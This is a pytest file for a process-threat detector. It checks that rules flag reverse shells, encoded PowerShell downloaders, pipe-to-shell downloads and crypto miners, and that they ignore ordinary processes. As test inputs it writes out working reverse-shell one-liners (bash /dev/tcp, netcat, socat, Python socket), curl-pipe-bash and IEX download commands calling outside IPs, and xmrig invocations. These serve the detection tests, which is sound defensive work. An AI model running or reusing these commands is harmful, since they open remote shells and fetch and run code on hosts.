"""Suspicious processes: the rule that fired and the text it matched are the evidence."""

import base64

import pytest

from smartcompute.detection.threat import analyze_threats
from smartcompute.detection.threat.processes import decode_powershell_command, match_process
from tests.detection.scenarios import HOUR, MINUTE, HostScenario

ENCODED = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://x/a')".encode("utf-16-le")).decode()


def rules(name: str, cmdline: str) -> list[str]:
    return [m.rule.rule_id for m in match_process(name, cmdline)]


def test_a_bash_reverse_shell_is_a_critical_finding_with_the_process_and_the_window():
    host = HostScenario()
    host.add_process(
        "bash", "bash -c 'bash -i >& /dev/tcp/185.220.101.45/4444 0>&1'", 5 * HOUR, 20 * MINUTE, user="www-data"
    )
    report = analyze_threats(host.build())

    assert [f["category"] for f in report["findings"]] == ["suspicious_process"]
    shell = report["findings"][0]
    assert shell["severity"] == "critical"
    assert shell["start"] == "2026-11-23T05:00:00Z" and shell["end"] == "2026-11-23T05:20:00Z"
    assert shell["evidence"]["users"] == ["www-data"]
    assert shell["evidence"]["indicators"][0]["rule"] == "reverse_shell.dev_tcp"
    assert shell["evidence"]["indicators"][0]["matched"] == "/dev/tcp/185.220.101.45/4444"
    assert report["severity"] == "critical"


def test_encoded_powershell_is_reported_with_the_decoded_command():
    host = HostScenario()
    host.add_process("powershell.exe", f"powershell.exe -NoP -W Hidden -enc {ENCODED}", 5 * HOUR, 10 * MINUTE)
    finding = analyze_threats(host.build())["findings"][0]

    assert finding["category"] == "suspicious_process" and finding["severity"] == "high"
    assert [i["rule"] for i in finding["evidence"]["indicators"]] == [
        "encoded_command.powershell",
        "powershell.hidden_window",
    ]
    assert finding["evidence"]["decoded_command"].startswith("IEX (New-Object Net.WebClient)")


@pytest.mark.parametrize(
    "name, cmdline, rule",
    [
        ("nc", "nc 10.1.2.3 4444 -e /bin/sh", "reverse_shell.netcat_exec"),
        (
            "sh",
            "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.1.2.3 4444 > /tmp/f",
            "reverse_shell.fifo_pipe",
        ),
        ("socat", "socat tcp-connect:10.1.2.3:4444 exec:/bin/bash,pty,stderr", "reverse_shell.socat_exec"),
        (
            "python3",
            'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("10.1.2.3",4444));'
            'os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
            "reverse_shell.script_socket",
        ),
        ("sh", "echo Y3VybCBodHRwOi8veC9hIHwgc2g= | base64 -d | sh", "encoded_command.base64_shell"),
        ("sh", "curl -fsSL http://45.9.148.117/x.sh | bash", "download_execute.pipe_to_shell"),
        ("xmrig", "xmrig --donate-level 1", "miner.known_name"),
        ("kworker", "./kworker -o stratum+tcp://pool.example:3333 -u wallet", "miner.stratum_url"),
        ("dbus", "/dev/shm/.x/dbus", "world_writable_exec"),
    ],
)
def test_each_rule_recognises_its_pattern(name, cmdline, rule):
    assert rule in rules(name, cmdline)


@pytest.mark.parametrize(
    "name, cmdline",
    [
        ("nginx", "nginx: worker process"),
        ("sshd", "/usr/sbin/sshd -D"),
        ("powershell.exe", "powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1"),
        ("bash", "bash /opt/app/deploy.sh --env production"),
        ("curl", "curl -o /tmp/release.tar.gz https://example.com/release.tar.gz"),
        ("python3", "python3 -m http.server 8000"),
    ],
)
def test_ordinary_processes_match_no_rule(name, cmdline):
    assert rules(name, cmdline) == []


def test_a_non_powershell_command_is_not_decoded():
    assert decode_powershell_command(f"someprog -e {ENCODED}") is None


def test_a_miner_without_busy_cpu_or_pool_is_a_suspicious_process_not_cryptomining():
    host = HostScenario()
    host.add_process("xmrig", "xmrig --donate-level 1", 5 * HOUR, 10 * MINUTE)
    findings = analyze_threats(host.build())["findings"]
    assert [(f["category"], f["severity"]) for f in findings] == [("suspicious_process", "medium")]
    assert findings[0]["start"] == "2026-11-23T05:00:00Z"


@pytest.mark.parametrize(
    "crafted",
    ["python socket " * 585, "python " * 600 + "socket " * 570, "iex " * 2000],
    ids=["interpreter-and-socket-repeated", "interpreters-then-sockets", "iex-repeated"],
)
def test_a_command_line_crafted_to_make_the_rules_backtrack_is_matched_at_once(crafted):
    """A customer's 8 KB command line must not hold a worker: with Python's backtracking re, the first of these
    took 23 s for one rule (a job of a dozen such processes ran into its time limit); RE2 takes well under 1 ms.
    In a process of its own, since a regex search holds the GIL until it ends."""
    import subprocess
    import sys

    from tests.support import REPO

    match = (
        "import sys; from smartcompute.detection.threat.processes import match_process; "
        "match_process('python3', sys.stdin.read())"
    )
    subprocess.run([sys.executable, "-c", match], input=crafted[:8192], text=True, cwd=REPO, check=True, timeout=15)
